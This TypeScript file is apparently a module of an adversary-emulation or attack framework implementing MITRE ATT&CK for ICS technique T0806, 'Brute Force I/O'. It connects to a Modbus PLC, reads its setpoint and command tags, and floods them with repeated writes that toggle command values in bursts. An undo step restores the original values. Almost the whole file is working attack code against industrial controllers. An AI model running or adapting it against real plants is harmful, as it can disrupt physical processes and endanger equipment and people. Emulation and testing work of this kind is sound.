// T0806 Brute Force I/O: a foreign client writes everything that can be written, over and over, and switches commands to and fro.
import { z } from 'zod'
import { ModbusDesk } from '../plc/modbus-desk.ts'
import { isRegister } from '../plc/tag-map.ts'
import type { Attack } from './attack.ts'
import { EverySeconds, inBursts, PerStrike } from './burst.ts'
import { KeptLink } from './kept-link.ts'

const Parameters = z.strictObject({
  toggle: z.boolean().default(true).describe('Whether commands are switched to and fro; otherwise all is written as it was found.'),
  perStrike: PerStrike,
  everySeconds: EverySeconds
})

export const writeFlood = {
  name: 'write-flood',
  title: { zh: '写入洪泛', en: 'Flood of writes' },
  technique: 'T0806',
  parameters: Parameters,
  async aim(foothold, { toggle, perStrike, everySeconds }) {
    const link = await KeptLink.open(foothold)
    const desk = new ModbusDesk({ map: foothold.map, link })
    await desk.look(foothold.seconds)
    const found = Object.entries(foothold.map.tags)
      .filter(([, { role }]) => role === 'setpoint' || role === 'command')
      .map(([tag, { place }]) => ({ tag, value: desk.value(tag), turns: toggle && !isRegister(place) }))
    // What is written as it was found does not change.
    const targets = toggle ? found.filter(({ turns }) => turns) : found
    const turned = (one: (typeof found)[number]) => ({ ...one, value: one.turns ? 1 - one.value : one.value })
    return {
      ...{ tags: targets.map(({ tag }) => tag), hosts: [link.host], insistSeconds: everySeconds },
      strike: inBursts([...found.map(turned), ...found], { perStrike, send: ({ tag, value }) => desk.write({ [tag]: value }) }),
      async undo() {
        for (const { tag, value } of found) await desk.write({ [tag]: value })
        await link.cut()
      }
    }
  }
} satisfies Attack<typeof Parameters>
